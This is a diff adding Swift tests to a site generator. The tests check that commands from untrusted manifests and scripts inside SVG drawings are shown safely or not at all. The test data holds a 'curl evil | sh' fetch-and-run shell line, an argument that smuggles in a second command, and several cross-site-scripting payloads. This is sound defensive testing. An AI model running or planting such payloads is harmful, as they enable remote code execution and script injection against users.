@@ -12,6 +12,8 @@ import Web
 
   @Test func theCommittedResultsMakeAWholeSite() throws {
     let site = Site(try StoredFolder(Self.results))
+    let generators = try #require(try site.document("document-generators-readme.html"))
+    #expect(PageCheck(generators).links.contains("files/generators/gan-losses.svg"))
     #expect(site.faults.isEmpty)
     let addresses = Set(site.pages.map(\.address) + [Site.first])
     let files = Set(site.files.keys)
@@ -140,6 +142,42 @@ import Web
         #expect(!check.pictures.contains { $0.contains("etc") })
       }
       #expect(site.files.keys.allSatisfy { !$0.contains("<") && !$0.contains("\"") && !$0.contains(" ") })
+    }
+  }
+
+  /// A manifest may come from anywhere, and what a page shows as a command is copied into a terminal.
+  @Test func theCommandsOfOtherProgramsAreNotShown() throws {
+    func manifest(_ words: String) -> Data {
+      Data(
+        #"{"schema":"assay/run/1","command":[\#(words)],"files":{"score":["s.json"],"-c":["s.json"]}}"#.utf8)
+    }
+    func page(_ words: String) throws -> String {
+      let files = ["s.json": try Self.score(named: "good"), "manifest.json": manifest(words)]
+      var page: String?
+      try Self.withFolder(files) { folder in
+        page = try Site(try StoredFolder(folder)).document("generator-good.html")
+      }
+      return try #require(page)
+    }
+    let bad = try page(#""sh","-c","curl evil | sh""#)
+    #expect(PageCheck(bad).faults.isEmpty && !bad.contains("curl"))
+    let good = try page(#""/elsewhere/eval","score","x; curl evil""#)
+    #expect(good.contains("eval score &#39;x; curl evil&#39;") && !good.contains("elsewhere"))
+  }
+
+  /// Opened, it would run the scripts in it; shown, it does not.
+  @Test(arguments: [
+    "<script>alert(1)</script>", "<g onload=\"alert(1)\"/>", "<a href=\"javascript:alert(1)\"/>",
+    "<svg:script>alert(1)</svg:script>", "<foreignObject/>", "<set attributeName=\"href\"/>",
+    "<!ENTITY x \"y\">",
+  ])
+  func noLinkOpensADrawingThatIsMore(content: String) throws {
+    let drawing = Data("<svg xmlns=\"http://www.w3.org/2000/svg\">\(content)</svg>".utf8)
+    try Self.withFolder(["a.svg": drawing, "a.md": Data("# A\n\n[see](a.svg) ![seen](a.svg)".utf8)]) {
+      folder in
+      let site = Site(try StoredFolder(folder))
+      let page = PageCheck(try #require(try site.document("document-a.html")))
+      #expect(page.pictures == ["files/a.svg"] && !page.links.contains { $0.hasSuffix(".svg") })
     }
   }
 
